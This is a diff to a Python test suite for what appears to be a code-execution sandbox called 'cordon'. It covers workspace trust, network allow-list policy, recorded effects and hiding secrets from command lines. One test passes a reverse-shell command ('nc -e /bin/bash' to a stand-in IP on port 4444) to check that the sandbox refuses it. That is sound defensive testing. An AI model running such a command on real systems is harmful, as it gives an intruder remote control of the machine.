@@ -16,9 +16,9 @@ class Run(Case):
         r = self.client().run("import sys\nprint('h\u00e9')\nprint('oh', file=sys.stderr)\nsys.exit(3)")
         self.assertEqual((r.status, r.exit_code, r.signal, r.ok), ("exited", 3, None, False))
         self.assertEqual((r.stdout, r.text, r.stderr, r.errors), ("h\u00e9\n".encode(), "h\u00e9\n", b"oh\n", "oh\n"))
-        self.assertEqual((r.tier, r.origin, r.verdict), (TIER, "user", "allow"))
+        self.assertEqual((r.tier, r.origin, r.verdict, r.state, r.cause), (TIER, "user", "allow", "clean", None))
         self.assertIn("seccomp", r.layers)
-        self.assertIn("compute", r.granted)
+        self.assertEqual((len(r.conversation), r.effects), (32, ()))
         self.assertTrue(r.audit_id.startswith("run:"))
         self.assertGreater(r.usage.memory_peak, 0)
         self.assertFalse(r.truncated)
@@ -76,40 +76,58 @@ class Run(Case):
         self.assertEqual(b"".join(o.data for o in seen), r.stdout)
         self.assertEqual(sum(o.omitted for o in seen), gap.omitted)
 
+    def test_input(self):
+        """input is a part of the conversation: it exposes nothing"""
+        client = self.client(user=False)
+        conversation = client.new_conversation()
+        code = "import sys\nprint(sys.stdin.read())"
+        r = client.run(code, conversation=conversation, input="hello")
+        self.assertEqual((r.text, r.state, r.cause), ("hello\n", "clean", None))
+
     @unittest.skipIf(TIER == "no-userns", "no overlay")
     def test_workspace(self):
-        """a directory: changes are told, and written back when that is asked for"""
+        """a directory: changes are told, and applied when that is asked for"""
         os.mkdir(self.path("w"))
         if os.getuid() == 0:
             os.chmod(self.dir, 0o755)
-        code = "open('new', 'w').write('x' * 5)"
-        r = self.client().run(code, workspace=self.path("w"), diff=True)
-        self.assertEqual([(c.path, c.change, c.size) for c in r.changes], [("new", "added", 5)])
+        client, code = self.client(), "open('new', 'w').write('x' * 5)"
+        r = client.run(code, workspace=self.path("w"), diff=True)
+        self.assertEqual([(c.path, c.change, c.size) for c in r.changes], [("new", "created", 5)])
+        self.assertEqual((r.state, r.cause), ("exposed", f"directory {self.path('w')} is untrusted"))
         self.assertEqual(os.listdir(self.path("w")), [])
-        r = self.client().run(code, workspace=self.path("w"), commit=True)
-        self.assertTrue(r.committed)
+        self.person("trust", self.path("w"))
+        r = client.run(code, workspace=self.path("w"), apply=True)
+        self.assertEqual(r.state, "clean")
+        self.assertEqual([(e.effect, e.object, e.outcome, e.done, e.by) for e in r.effects],
+                         [("write", "new", "policy", True, "policy")])
         self.assertEqual(os.listdir(self.path("w")), ["new"])
-        r = self.client().run("print(open('new').read())", workspace=self.path("w"), mode="ro")
+        r = client.run("print(open('new').read())", workspace=self.path("w"), mode="ro")
         self.assertEqual(r.text, "xxxxx\n")
 
     @unittest.skipIf(TIER == "no-userns", "no network of its own")
     def test_net(self):
-        """a host that is named is reached, another is not, and both are told"""
+        """a host that the policy lists is reached, another is not, and both are told"""
         with socket.socket() as s, socket.socket() as other:
             for one in (s, other):
                 one.bind(("127.0.0.1", 0))
                 one.listen()
                 one.settimeout(0.2)
-            ports = [one.getsockname()[1] for one in (s, other)]
-            code = ("import socket\nfor p in %r:\n try: socket.create_connection(('127.0.0.1', p), 5).sendall(b'hello')\n"
-                    " except OSError as e: print(type(e).__name__)" % ports)
-            r = self.client().run(code, net=[f"127.0.0.1:{ports[0]}"], connections=4, net_out="1M")
+            hosts = [f"127.0.0.1:{one.getsockname()[1]}" for one in (s, other)]
+            with open(self.path("policy"), "w") as f:
+                f.write(f"version: 2\nnet:\n  allow: [\"{hosts[0]}\"]\n")
+            code = ("import socket\nfor h in %r:\n try: socket.create_connection(h.split(':'), 5).sendall(b'hello')\n"
+                    " except OSError as e: print(type(e).__name__)" % hosts)
+            r = self.client(policy=self.path("policy")).run(code, net=hosts, connections=4, net_out="1M")
             self.assertEqual(r.text, "PermissionError\n", r.errors)
             with s.accept()[0] as got:
                 self.assertEqual(got.recv(9), b"hello")
             with self.assertRaises(OSError):
                 other.accept()
-            self.assertEqual([(c.port, c.verdict, c.bytes_out) for c in r.egress], [(ports[0], "connected", 5), (ports[1], "refused", 0)])
+            self.assertEqual([(f"{c.address}:{c.port}", c.verdict, c.bytes_out) for c in r.egress],
+                             [(hosts[0], "connected", 5), (hosts[1], "refused", 0)])
+            self.assertEqual([(e.effect, e.object, e.outcome) for e in r.effects],
+                             [("net", hosts[0], "policy"), ("net", hosts[1], "withheld")])
+            self.assertIn(f"--net {hosts[1]}", r.effects[1].command)
 
     def test_events(self):
         """what happens, as it happens"""
@@ -160,7 +178,7 @@ class Errors(Case):
     def test_refused(self):
         """refused: the reason is the CLI's"""
         with self.assertRaises(cordon.Refused) as e:
-            self.client(origin=None).run("import os\nos.system('nc -e /bin/bash 192.0.2.1 4444')")
+            self.client().run("import os\nos.system('nc -e /bin/bash 192.0.2.1 4444')")
         self.assertIn("CORDON-2026-0001", str(e.exception))
         self.assertEqual(e.exception.result.verdict, "deny")
         self.assertEqual(e.exception.result.origin, "hostile")
@@ -209,25 +227,26 @@ class Errors(Case):
         self.assertEqual((r.tier, r.text), (TIER, "['--tier', 'no-userns']\n"))
 
     def test_unseen(self):
-        """no handle, token, variable or argument is on a command line, which all can read"""
+        """no id, variable or argument is on a command line, which all can read"""
         words = []
 
         def look(event):
             for pid, _ in children():
                 with open(f"/proc/{pid}/cmdline", "rb") as f:
                     words.append(f.read())
-        client = self.client(origin=None)
-        domain = client.new_domain()
+        client = self.client(user=False)
+        conversation = client.new_conversation()
         code = "import os, sys\nprint(os.environ['KEY'], sys.argv[1:])"
-        plan = client.plan(code, domain=domain)
-        r = client.run(code, domain=domain, plan=plan, env={"KEY": "s3cret=x"}, args=["h1dden"], on_event=look)
-        self.assertEqual(r.text, "s3cret=x ['h1dden']\n")
-        self.assertIn("the plan is for other arguments", r.reasons[0])  # so the token arrived
+        options = {"env": {"KEY": "s3cret=x"}, "args": ["h1dden"]}
+        plan = client.plan(code, conversation=conversation)
+        r = client.run(code, conversation=conversation, plan=plan, on_event=look, **options)
+        self.assertEqual((r.text, r.origin), ("s3cret=x ['h1dden']\n", "agent"))
+        self.assertIn("the plan gives nothing", r.reasons[0])  # so its id arrived
         self.assertIn(b"--events", words[0])
-        plan = client.plan(code, domain=domain, env={"KEY": "s3cret=x"}, args=["h1dden"])
-        r = client.run(code, domain=domain, plan=plan, env={"KEY": "s3cret=x"}, args=["h1dden"], on_event=look)
+        plan = client.plan(code, conversation=conversation, **options)
+        r = client.run(code, conversation=conversation, plan=plan, on_event=look, **options)
         self.assertEqual((r.text, r.origin), ("s3cret=x ['h1dden']\n", "plan"))
-        for secret in (domain.handle, plan.token, "s3cret", "h1dden"):
+        for secret in (conversation.conversation, plan.ticket, "s3cret", "h1dden"):
             self.assertEqual([w for w in words if secret.encode() in w], [])
 
     def test_isolate(self):
